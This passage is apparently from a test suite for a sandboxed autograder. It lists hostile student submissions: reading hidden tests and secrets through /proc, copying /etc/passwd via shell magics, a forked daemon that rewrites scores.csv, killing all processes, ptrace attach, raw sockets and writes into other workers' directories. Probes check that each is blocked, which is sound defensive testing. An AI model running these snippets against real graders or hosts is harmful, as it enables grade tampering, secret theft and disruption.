                def softmax(z, axis=-1):
                    text = ""
                    for pid in [str(os.getppid()), "1", "self"] + [p for p in os.listdir("/proc") if p.isdigit()]:
                        for via in ("root", "cwd"):
                            for rel in ["@ROOT@/assignments/ps4-softmax/test_softmax.py", "assignments/ps4-softmax/test_softmax.py",
                                        "tmp/@CANARY_NAME@", "@CANARY@"]:
                                try:
                                    text += open(f"/proc/{pid}/{via}/{rel.lstrip('/')}").read()
                                except OSError:
                                    pass
                    raise ValueError(text[text.find("def "):] if text else "nothing")
                """
            )
        },
        zero=("softmax",),
    ),
    Attack(
        "snoop_on_proc",
        answers={
            "softmax": src(
                """
                import os

                def softmax(z, axis=-1):
                    seen = []
                    pids = [str(os.getppid()), "1"] + [p for p in os.listdir("/proc") if p.isdigit()]
                    for pid in pids:
                        for what in ("environ", "cmdline"):
                            try:
                                data = open(f"/proc/{pid}/{what}", "rb").read().decode("latin1")
                            except OSError:
                                continue
                            seen += [part for part in data.split("\\0") if "HOSTILE" in part or "canary" in part]
                    raise ValueError(" ".join(seen) or "nothing")
                """
            )
        },
        zero=("softmax",),
    ),
    Attack("delete_the_function", cells=(("softmax", "del softmax\n"),), zero=("softmax",)),
    Attack(
        "delete_builtins",
        cells=(
            ("top", "del __builtins__\n"),
            ("end", "import builtins\nbuiltins.__dict__.pop('len', None)\n"),
        ),
        keep=(),
    ),
    Attack(
        "shell_and_magics",
        cells=(
            ("top", "!cat /etc/passwd > ../../hostile-pwned-shell\n"),
            ("top", "%run ../../hostile-pwned.py\n"),
            ("top", "%%writefile ../../hostile-pwned-magic.py\nprint('pwned')\n"),
            (
                "top",
                "import subprocess\ntry:\n    subprocess.run(['sh', '-c', 'echo pwned > /tmp/hostile-pwned-sh'], timeout=2)\nexcept Exception:\n    pass\n",
            ),
        ),
    ),
    # --- what a normal user's grader must hold too (issue 12): each fails without its layer ---
    Attack(
        "find_the_course_through_proc",
        # The grader's processes hold the course as their cwd (`autograder grade` run in it) and
        # every process's root is /: through /proc/<pid>/cwd and /proc/<pid>/root a worker that
        # shares their uid finds it without guessing, then rewrites the hidden tests.
        cells=(
            (
                "top",
                src(
                    """
                    import os
                    reached = []
                    try:
                        pids = [int(e) for e in os.listdir("/proc") if e.isdigit()]
                    except OSError:  # not listable: guess the grader's pids, just below ours
                        pids = list(range(max(2, os.getpid() - 3000), os.getpid() + 50))
                    for entry in pids:
                        if entry == os.getpid():
                            continue
                        for base in (f"/proc/{entry}/cwd", f"/proc/{entry}/root@ROOT@"):
                            target = os.path.join(base, "assignments", "ps4-softmax", "test_softmax.py")
                            try:
                                with open(target, "a") as f:
                                    f.write("\\n# pwned through /proc\\n")
                                reached.append(target)
                            except OSError:
                                pass
                            try:
                                with open(os.path.join(base, "hostile-pwned-proc"), "w") as f:
                                    f.write("pwned")
                                reached.append(base)
                            except OSError:
                                pass
                    answer_mse_value = "probe:proc:" + ("reached" if reached else "nothing")
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:proc:nothing$",
    ),
    Attack(
        "kill_everything_with_sigstop_then_sigkill",
        root_only=True,  # as the developer's own uid, a failed jail would stop their session
        cells=(
            (
                "top",
                src(
                    """
                    import os, signal
                    seen = []
                    for sig in (signal.SIGSTOP, signal.SIGKILL):
                        try:
                            os.kill(-1, sig)
                            seen.append("sent")
                        except OSError as e:
                            seen.append(e.errno)
                    answer_mse_value = "probe:" + ",".join(map(str, seen))
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        # kill(-1) answers 0 even when every signal was refused: that the worker lived to answer
        # and every other student kept their grade is the proof (the common tests).
        probe=r"probe:(sent|3),(sent|3)$",
    ),
    Attack(
        "daemon_rewrites_results_later",
        # A daemon in a session of its own, out of the worker's process group, waits for the
        # batch to write scores.csv and then gives its author full marks.
        answers={"softmax": WRONG_SOFTMAX},
        cells=(
            (
                "top",
                src(
                    """
                    import ctypes, os, time
                    if os.fork() == 0:
                        os.setsid()
                        if os.fork() == 0:
                            ctypes.CDLL(None).prctl(15, b"hostile-daemon", 0, 0, 0)
                            scores = os.path.join("@ROOT@", "reports", "ps4-softmax", "scores.csv")
                            end = time.time() + 600
                            while time.time() < end:
                                time.sleep(0.1)
                                try:
                                    with open(scores) as f:
                                        text = f.read()
                                    if "daemon_rewrites_results_later" in text:
                                        lines = [
                                            line.replace(",0.0,", ",3.0,") if line.startswith("daemon_") else line
                                            for line in text.splitlines()
                                        ]
                                        with open(scores, "w") as f:
                                            f.write("\\n".join(lines) + "\\n")
                                        with open(os.path.join("@ROOT@", "hostile-pwned-daemon"), "w") as f:
                                            f.write("pwned")
                                except OSError:
                                    pass
                            os._exit(0)
                        os._exit(0)
                    time.sleep(0.1)
                    """
                ),
            ),
        ),
        zero=("softmax",),
    ),
    Attack(
        "read_the_judges_environment",
        cells=(
            (
                "top",
                src(
                    """
                    import os
                    found = []
                    try:
                        pids = [int(e) for e in os.listdir("/proc") if e.isdigit()]
                    except OSError:  # not listable: guess the grader's pids, just below ours
                        pids = list(range(max(2, os.getpid() - 3000), os.getpid() + 50))
                    for entry in pids:
                        if entry != os.getpid():
                            try:
                                with open(f"/proc/{entry}/environ", "rb") as f:
                                    data = f.read()
                            except OSError:
                                continue
                            if b"HOSTILE_SECRET=" in data:
                                found.append(data.split(b"HOSTILE_SECRET=")[1].split(b"\\0")[0].decode())
                    answer_mse_value = "probe:environ:" + (",".join(found) or "none")
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:environ:none$",
    ),
    Attack(
        "ptrace_attach_to_the_zygote",
        cells=(
            (
                "top",
                src(
                    """
                    import ctypes, os
                    libc = ctypes.CDLL(None, use_errno=True)
                    seen = []
                    for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
                        if libc.ptrace(request, os.getppid(), 0, 0) == 0:
                            seen.append("attached")
                            libc.ptrace(17, os.getppid(), 0, 0)  # PTRACE_DETACH
                        else:
                            seen.append(str(ctypes.get_errno()))
                    answer_mse_value = "probe:ptrace:" + ",".join(seen)
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:ptrace:1,1$",  # EPERM
    ),
    Attack(
        "udp_and_raw_sockets",
        cells=(
            (
                "top",
                src(
                    """
                    import socket
                    seen = []
                    try:
                        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                            s.sendto(b"hostile-udp", ("127.0.0.1", @UDP_PORT@))
                        seen.append("sent")
                    except OSError as e:
                        seen.append(e.errno)
                    for family, kind, proto in [
                        (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                        (socket.AF_INET6, socket.SOCK_DGRAM, 0),
                        (socket.AF_PACKET, socket.SOCK_RAW, 0),
                        (socket.AF_NETLINK, socket.SOCK_RAW, 0),
                    ]:
                        try:
                            socket.socket(family, kind, proto).close()
                            seen.append("open")
                        except OSError as e:
                            seen.append(e.errno)
                    answer_mse_value = "probe:" + ",".join(map(str, seen))
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:1,1,1,1,1$",  # EPERM: no socket family but AF_UNIX
    ),
    Attack(
        "abstract_unix_socket_to_the_judge",
        cells=(
            (
                "top",
                src(
                    """
                    import socket
                    try:
                        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                            s.connect(b"\\0@ABSTRACT@")
                            s.sendall(b"hostile-abstract")
                        seen = "connected"
                    except OSError as e:
                        seen = e.errno
                    answer_mse_value = f"probe:abstract:{seen}"
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        # EPERM where Landlock scopes abstract sockets; ECONNREFUSED in a network namespace of its own.
        probe=r"probe:abstract:(1|111)$",
    ),
    Attack(
        "write_into_another_workers_scratch",
        cells=(
            (
                "top",
                src(
                    """
                    import glob, os, time
                    mine = os.path.realpath(os.getcwd())
                    wrote = []
                    for _ in range(20):  # the other judge's worker comes and goes: look for a while
                        for other in glob.glob("/tmp/autograder-*/s-*") + glob.glob(os.path.dirname(mine) + "/s-*"):
                            if os.path.realpath(other) == mine:
                                continue
                            try:
                                with open(os.path.join(other, "hostile-pwned-scratch"), "w") as f:
                                    f.write("pwned")
                                wrote.append(other)
                            except OSError:
                                pass
                        if wrote:
                            break
                        time.sleep(0.05)
                    answer_mse_value = "probe:scratch:" + ("wrote" if wrote else "none")
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:scratch:none$",
    ),
    Attack(
        "count_the_pids_it_can_see",
        # Every pid of the machine but its own that a worker can name through /proc: where it
        # may not list /proc (Landlock), a stat of /proc/<pid> still answers, so it tries them
        # all. In a PID namespace of the zygote's it must see none (the zygote hides behind
        # hidepid); elsewhere it reports what it saw, and must gain nothing by it.
        cells=(
            (
                "top",
                src(
                    """
                    import os
                    mine = {os.getpid()}
                    try:
                        mine.update(int(t) for t in os.listdir("/proc/self/task"))
                    except OSError:
                        pass
                    try:
                        pids = {int(e) for e in os.listdir("/proc") if e.isdigit()}
                    except OSError:  # not listable: try every pid up to 65536, and those near ours
                        pids = set(range(1, 1 << 16)) | set(range(max(1, os.getpid() - 5000), os.getpid() + 100))
                    foreign = 0
                    for pid in sorted(pids - mine):
                        try:
                            os.stat(f"/proc/{pid}")
                            foreign += 1
                        except OSError:
                            pass
                    answer_mse_value = f"probe:pids:{foreign}"
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:pids:\d+$",
        probe_with=("pidns", r"probe:pids:0$"),  # its own PID namespace: not even the zygote
    ),
]
